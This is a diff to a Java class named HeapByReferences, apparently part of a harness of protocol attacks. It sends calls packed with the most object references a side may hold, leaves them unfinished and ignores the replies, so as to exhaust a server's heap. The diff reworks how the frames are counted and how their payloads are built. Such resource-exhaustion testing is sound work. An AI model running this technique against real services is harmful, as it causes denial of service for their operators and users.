@@ -11,15 +11,15 @@ import java.nio.ByteOrder;
 import java.util.concurrent.locks.LockSupport;
 
 /**
- * Sends a call with as many references as a side can have, all but its end. Then ends such calls, begins others with other
- * objects, and never reads what it is told of those that were dropped.
+ * Sends a call with as many references as a side may have, and another one with as many other objects, all but its end. Then
+ * ends such calls, begins others, and never reads what it is told of the objects that were dropped.
  */
 final class HeapByReferences implements Attack {
 
     private static final int REFERENCES_IN_A_FRAME = 3_900;
 
-    /** Of a call, after the first and before the last one. */
-    private static final int FRAMES = ReferenceList.MOST_OBJECTS / REFERENCES_IN_A_FRAME;
+    /** Of a call, before the last one, which has no references. The first one has one. */
+    private static final int FRAMES = 2 + (Resource.MAX_REFERENCES - 2) / REFERENCES_IN_A_FRAME;
 
     private static final int VALUES_IN_A_FRAME = 16;
     private static final int ALL_REFERENCES = 1 << 29;
@@ -45,8 +45,9 @@ final class HeapByReferences implements Attack {
     public String take() {
         connect();
         long startNs = System.nanoTime();
-        while (frames < FRAMES) {
-            if (!sendFrame()) {
+        while (callId < 2 || frames < FRAMES) {
+            answered |= connection.skipAnswers(0) > 0;
+            if (!answered || !sendFrame()) {
                 if (System.nanoTime() - startNs > PATIENCE_NS) {
                     throw new IllegalStateException("only " + inCall + " references were taken");
                 }
@@ -54,7 +55,7 @@ final class HeapByReferences implements Attack {
             }
         }
         awaitRead(startNs);
-        return inCall + " references in a call without an end";
+        return inCall + " references in a call without an end, and as many released";
     }
 
     private void connect() {
@@ -105,19 +106,12 @@ final class HeapByReferences implements Attack {
         boolean first = frames == 0;
         boolean last = frames == FRAMES;
         byte[] head = first ? Calls.store(FRAMES * VALUES_IN_A_FRAME) : new byte[VALUES_IN_A_FRAME];
-        int count = first ? 1 : Math.min(REFERENCES_IN_A_FRAME, ReferenceList.MOST_OBJECTS - inCall);
-        ByteBuffer content = ByteBuffer.allocate(
-                        head.length + count * ReferenceList.ENTRY_LENGTH + ReferenceList.COUNT_LENGTH)
-                .order(ByteOrder.LITTLE_ENDIAN)
-                .put(head);
-        for (int i = 0; i < count; i++) {
-            content.putInt(FIRST_ID + nextReference + i);
-        }
-        byte[] payload = content.putInt(count).array();
+        int count = first ? 1 : Math.min(REFERENCES_IN_A_FRAME, Resource.MAX_REFERENCES - inCall);
+        byte[] payload = last ? head : withReferences(head, count);
         if (first) {
             payload = Frames.call(callId + 1, Calls.DEPOT_OBJECT, Calls.STORE, payload);
         }
-        int flags = FrameFormat.CALL | FrameFormat.REFERENCES | (last ? 0 : RecordDescriptor.MORE);
+        int flags = FrameFormat.CALL | (last ? 0 : FrameFormat.REFERENCES | RecordDescriptor.MORE);
         if (!connection.frameAndWake(0, flags, payload)) {
             return false;
         }
@@ -127,5 +121,16 @@ final class HeapByReferences implements Attack {
         frames = last ? 0 : frames + 1;
         answered = !last;
         return true;
+    }
+
+    private byte[] withReferences(byte[] head, int count) {
+        ByteBuffer content = ByteBuffer.allocate(
+                        head.length + count * ReferenceList.ENTRY_LENGTH + ReferenceList.COUNT_LENGTH)
+                .order(ByteOrder.LITTLE_ENDIAN)
+                .put(head);
+        for (int i = 0; i < count; i++) {
+            content.putInt(FIRST_ID + nextReference + i);
+        }
+        return content.putInt(count).array();
     }
 }
